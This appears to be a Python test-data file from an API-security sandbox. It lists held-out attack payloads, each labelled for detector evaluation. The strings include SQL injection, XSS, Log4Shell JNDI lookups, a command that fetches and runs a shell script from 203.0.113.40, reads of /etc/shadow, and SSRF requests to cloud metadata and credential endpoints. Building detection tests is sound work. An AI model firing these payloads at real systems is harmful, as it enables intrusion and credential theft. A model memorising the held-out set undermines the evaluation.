"""What held-out attackers send into parameters. Not to be read by who works on detection.

Drawn anew on 22 November 2026, because earlier ones had been read. The strings were chosen before the detectors were
asked.
"""

from __future__ import annotations

from apisec_sandbox.campaigns.attacks.payloads import Payload

HELDOUT = (
    Payload("7) AND 5412=5412 AND (8317=8317", (("sqli", "sqli", 0.98),)),
    Payload("x'||(SELECT 0x4b6d WHERE 8112=8112)||'", (("sqli", "sqli", 0.997),)),
    Payload("'; EXEC master..xp_dirtree '\\\\203.0.113.40\\s';--", (("sqli", "sqli", 0.996),)),
    Payload("1 ORDER BY 23-- -", (("sqli", "sqli", 0.8),)),
    Payload("'; return this.role == 'root' || '", (("nosql", "nosql", 0.9),)),
    Payload("<details open ontoggle=import('//203.0.113.40/m.js')>", (("xss", "xss", 0.988),)),
    Payload("javascript:/*--></title>*/confirm(1)", (("xss", "xss", 0.988),)),
    Payload("....\\\\....\\\\inetpub\\\\wwwroot\\\\web.config", (("path_traversal", "files", 0.965),)),
    Payload("/proc/self/environ%00", (("path_traversal", "files", 0.92),)),
    Payload("&& wget -qO- 203.0.113.40/s | sh", (("command", "command", 0.85),)),
    Payload("<%= File.open('/etc/shadow').read %>", (("template", "template", 0.7), ("path_traversal", "files", 0.6))),
    Payload("{{config.items()}}", (("template", "template", 0.9),)),
    Payload("${${lower:j}ndi:${lower:r}mi://203.0.113.40/o}", (("jndi", "jndi", 0.9),)),
    Payload("x%0d%0aSet-Cookie:%20sid=1", (("crlf", "crlf", 0.85),)),
)
LINKS = (
    Payload("http://0x7f000001:9200/_cat/indices", (("ssrf", "ssrf", 0.9),)),
    Payload("http://100.100.100.200/latest/meta-data/", (("ssrf", "ssrf", 0.999), ("inclusion", "files", 0.55))),
    Payload("dict://10.20.0.7:11211/stats", (("ssrf", "ssrf", 0.98),)),
    Payload("http://169.254.170.2/v2/credentials", (("ssrf", "ssrf", 0.95), ("inclusion", "files", 0.55))),
    Payload("http://images.example.com@[::1]:8500/v1/agent/self", (("ssrf", "ssrf", 0.75),)),
)
_FILE = (("path_traversal", "files", 0.8),)
PATHS = (
    *(Payload(path, _FILE) for path in (
        "/.aws/credentials", "/.svn/entries", "/web.config.bak", "/.DS_Store", "/id_rsa"
    )),
    *map(Payload, (
        "/cgi-bin/test.cgi", "/phpmyadmin/index.php", "/telescope/requests", "/manager/html",
        "/_ignition/health-check", "/nacos/v1/auth", "/druid/index.html", "/eureka/apps", "/hidden",
        "/_profiler/open", "/users.bak", "/.vscode/sftp.json", "/v3/internal"
    )),
)  # fmt: skip
